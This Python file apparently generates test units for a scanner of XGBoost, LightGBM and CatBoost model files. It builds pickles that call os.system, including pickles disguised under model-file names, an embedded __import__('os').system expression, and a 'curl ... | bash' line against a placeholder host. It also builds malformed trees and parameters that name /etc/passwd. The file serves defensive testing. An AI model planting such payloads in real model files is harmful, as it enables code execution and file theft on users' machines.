"""XGBoost, LightGBM and CatBoost: pickles around boosters, and models that lie.

Source: xgboost doc/model.schema and ubjson.org; LightGBM src/boosting/gbdt_model_text.cpp;
catboost libs/model.
"""

from __future__ import annotations

import json
import random
import struct
from collections.abc import Iterator

from bench.corpus.unit import COMMAND, Family, Unit
from bench.corpus.writers import opcodes as op
from bench.corpus.writers.boosters import cbm, lgb, tree, ubj, xgb

BOOST = Family("boosters", "xgboost, lightgbm, catboost")


RUN = op.call(op.stacked("os", "system"), op.text(COMMAND))


def units(rng: random.Random) -> Iterator[Unit]:
    yield from _pickles(rng)
    yield from _lies(rng)
    yield from _honest(rng)


def booster(module: str, name: str, state: bytes) -> bytes:
    return op.build(op.stacked(module, name) + op.EMPTY_TUPLE + op.NEWOBJ, state)


def _pickles(rng: random.Random) -> Iterator[Unit]:
    raw = ubj(xgb(tree(rng)))
    xgboost = booster(
        "xgboost.core",
        "Booster",
        op.pack_dict(
            [
                (op.text("handle"), b"\x96" + struct.pack("<Q", len(raw)) + raw),
                (op.text("hook"), RUN),
            ]
        ),
    )
    yield BOOST.bad(
        "pickle",
        "xgboost",
        {"xgb.pkl": op.proto(5) + op.frame(xgboost + b".")},
        loader="pickle.load",
    )
    light = booster(
        "lightgbm.basic",
        "Booster",
        op.pack_dict([(op.text("handle"), op.text(lgb(rng))), (op.text("params"), RUN)]),
    )
    yield BOOST.bad("pickle", "lightgbm", {"lgb.pkl": op.pickle4(light)}, loader="pickle.load")
    cat = op.build(
        op.stacked("catboost.core", "CatBoostClassifier") + op.EMPTY_TUPLE + op.NEWOBJ,
        op.pack_dict(
            [(op.text("__model"), op.data(cbm(bytes(64)))), (op.text("_init_params"), RUN)]
        ),
    )
    yield BOOST.bad("pickle", "catboost", {"cat.pkl": op.pickle4(cat)}, loader="pickle.load")
    yield BOOST.bad(
        "disguised", "pickle-named-ubj", {"model.ubj": op.pickle4(RUN)}, loader="pickle.load"
    )
    yield BOOST.bad(
        "disguised", "pickle-named-json", {"model.json": op.pickle4(RUN)}, loader="pickle.load"
    )
    yield BOOST.bad(
        "disguised", "pickle-named-cbm", {"model.cbm": op.pickle4(RUN)}, loader="pickle.load"
    )
    yield BOOST.bad(
        "disguised",
        "p0-named-txt",
        {"model.txt": b"cos\nsystem\n(S'true'\ntR."},
        loader="pickle.load",
    )
    good = booster(
        "xgboost.core",
        "Booster",
        op.pack_dict([(op.text("handle"), b"\x96" + struct.pack("<Q", len(raw)) + raw)]),
    )
    yield BOOST.good(
        "pickle", "xgboost", {"xgb.pkl": op.proto(5) + op.frame(good + b".")}, loader="pickle.load"
    )
    light = booster(
        "lightgbm.basic",
        "Booster",
        op.pack_dict(
            [
                (op.text("handle"), op.text(lgb(rng))),
                (op.text("params"), op.value({"num_leaves": 3})),
            ]
        ),
    )
    yield BOOST.good("pickle", "lightgbm", {"lgb.pkl": op.pickle4(light)}, loader="pickle.load")


def _lies(rng: random.Random) -> Iterator[Unit]:
    def bad(
        technique: str,
        variant: str,
        name: str,
        body: object,
        payload: str = "reads outside its buffers",
        expect: str = "suspicious",
    ) -> Unit:
        return BOOST.bad(technique, variant, {name: body}, payload=payload, expect=expect)  # type: ignore[arg-type]

    loop = tree(rng, left_children=[0, -1, -1], right_children=[0, -1, -1])
    yield bad("tree-lies", "cycle", "model.json", xgb(loop), "never ends")
    yield bad(
        "tree-lies",
        "child-out-of-range",
        "model.json",
        xgb(tree(rng, left_children=[99999, -1, -1])),
    )
    yield bad("tree-lies", "short-arrays", "model.json", xgb(tree(rng, split_conditions=[0.5])))
    yield bad(
        "tree-lies",
        "ubj-child",
        "model.ubj",
        ubj(xgb(tree(rng, right_children=[2147483000, -1, -1]))),
    )
    plain = ubj(xgb(tree(rng)))
    yield bad(
        "ubj-lengths",
        "huge",
        "model.ubj",
        plain.replace(b"#L" + struct.pack(">q", 3), b"#L" + struct.pack(">q", 1 << 50), 1),
    )
    yield bad(
        "ubj-lengths",
        "negative",
        "model.ubj",
        plain.replace(b"#L" + struct.pack(">q", 3), b"#L" + struct.pack(">q", -3), 1),
    )
    yield bad(
        "ubj-lengths", "deep", "model.ubj", b"{L" + struct.pack(">q", 1) + b"a" + b"[" * 200_000
    )
    yield bad(
        "json-depth",
        "deep",
        "model.json",
        '{"learner": ' + "[" * 200_000 + "]" * 200_000 + "}",
        "exhausts the stack",
    )
    custom = {"scikit_learn": json.dumps({"objective": f"__import__('os').system('{COMMAND}')"})}
    yield bad(
        "attribute-payload",
        "expression",
        "model.json",
        xgb(tree(rng), attributes=custom),
        "text for a tool that evaluates it",
    )
    script = {"setup": "curl -s http://example.invalid/x.sh | bash"}
    yield bad(
        "attribute-payload",
        "shell",
        "model.ubj",
        ubj(xgb(tree(rng), attributes=script)),
        "text for a tool that runs it",
    )
    yield bad("text-lies", "leaves", "model.txt", lgb(rng, leaves=2_000_000_000))
    yield bad("text-lies", "child", "model.txt", lgb(rng, children="99999999 -2"))
    yield bad("text-lies", "self-child", "model.txt", lgb(rng, children="0 0"), "never ends")
    yield bad("text-lies", "feature", "model.txt", lgb(rng, feature="0 999999999"))
    forced = "[forcedsplits_filename: /etc/passwd]\n[output_model: /tmp/corpus-marker]\n[machine_list_filename: /etc/hosts]\n"
    yield bad(
        "text-parameters",
        "files",
        "model.txt",
        lgb(rng, tail=forced),
        "names files to read and write",
    )
    yield bad("catboost-size", "huge", "model.cbm", cbm(bytes(64), 0xFFFFFFF0))
    yield bad("catboost-size", "cut", "model.cbm", cbm(bytes(64))[:30])


def _honest(rng: random.Random) -> Iterator[Unit]:
    def good(variant: str, name: str, body: object) -> Unit:
        return BOOST.good("model", variant, {name: body})

    yield good("xgb-json", "model.json", json.dumps(xgb(tree(rng), tree(rng, id=1))))
    yield good("xgb-ubj", "model.ubj", ubj(xgb(*(tree(rng, id=i) for i in range(5)))))
    scikit = {
        "scikit_learn": json.dumps({"_estimator_type": "classifier", "n_classes_": 2}),
        "best_iteration": "41",
        "best_score": "0.91",
    }
    yield good("xgb-attributes", "model.json", json.dumps(xgb(tree(rng), attributes=scikit)))
    yield good("xgb-ubj-attributes", "model.ubj", ubj(xgb(tree(rng), attributes=scikit)))
    linear = xgb(
        tree(rng),
        gradient_booster={
            "model": {"weights": [0.5, 0.1, 0.2, 0.3, 0.4], "boosted_rounds": 3},
            "name": "gblinear",
        },
    )
    yield good("xgb-linear", "model.json", json.dumps(linear))
    yield good(
        "xgb-config",
        "config.json",
        json.dumps(
            {"learner": {"generic_param": {"device": "cpu", "seed": "0"}}, "version": [2, 1, 0]}
        ),
    )
    yield good("lgb", "model.txt", lgb(rng))
    usual = "[num_iterations: 100]\n[learning_rate: 0.1]\n[data: ]\n[output_model: LightGBM_model.txt]\n[forcedsplits_filename: ]\n"
    yield good("lgb-parameters", "lightgbm.txt", lgb(rng, tail=usual))
    yield good("lgb-header", "model.txt", lgb(rng, header="monotone_constraints=0 0 1 0\n"))
    yield good(
        "cat-json",
        "model.json",
        {
            "features_info": {"float_features": [{"feature_index": 0, "borders": [0.5]}]},
            "model_info": {"params": {"loss_function": {"type": "Logloss"}}},
            "oblivious_trees": [{"leaf_values": [0.1, 0.2], "splits": [{"border": 0.5}]}],
        },
    )
